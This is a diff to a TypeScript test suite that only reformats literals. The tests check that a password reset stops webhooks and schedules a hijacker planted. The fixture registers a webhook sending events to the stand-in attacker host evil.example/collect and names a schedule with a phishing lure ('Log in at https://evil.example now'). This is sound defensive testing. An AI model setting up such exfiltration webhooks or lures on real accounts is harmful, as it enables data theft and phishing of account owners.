@@ -26,7 +26,10 @@ async function setUp(hijacker: Visitor, email: string) {
   const secret = async () => (await (await fetch(`${address()}/webhooks/secret`, { headers })).json()) as object;
   const { body: webhook } = await hijacker.post("/webhooks", { url: "https://evil.example/collect", events: null });
   const { body: schedule } = await hijacker.post("/schedules", {
-    ...{ name: "Log in at https://evil.example now", operation: OPERATION, cron: "0 7 * * *", time_zone: "UTC" },
+    name: "Log in at https://evil.example now",
+    operation: OPERATION,
+    cron: "0 7 * * *",
+    time_zone: "UTC",
     request: { keyword: "lamp", count: 1 },
   });
   return { key, webhook, schedule, secret };
@@ -49,7 +52,9 @@ describe("a password reset", () => {
     const [before, feedBefore] = [await secret(), (await fetch(feed)).status];
     const review = await reset(owner, email, { revoke_keys: false });
     expect(review.map(({ kind, state }) => `${kind} ${state}`)).toEqual([
-      ...["api_key active", "webhook stopped", "schedule stopped"],
+      "api_key active",
+      "webhook stopped",
+      "schedule stopped",
     ]);
     expect((await owner.get("/access")).body.access).toEqual(review);
     expect([feedBefore, (await fetch(feed)).status]).toEqual([200, 404]);
@@ -76,7 +81,11 @@ describe("a password reset", () => {
     const { body: rotated } = await owner.post(`/webhooks/${webhook.id}/rotate`, { overlap_seconds: 0 });
     expect(() => new Webhook(rotated.secret)).not.toThrow();
     const made = await owner.post("/keys", {
-      ...{ name: "Mine", usage_context: "standard", sources: null, spending_cap: null, expires_in_days: null },
+      name: "Mine",
+      usage_context: "standard",
+      sources: null,
+      spending_cap: null,
+      expires_in_days: null,
     });
     expect(made.status).toBe(200);
     expect((await owner.post(`/schedules/${schedule.id}/resume`)).body).toMatchObject({ status: "active" });
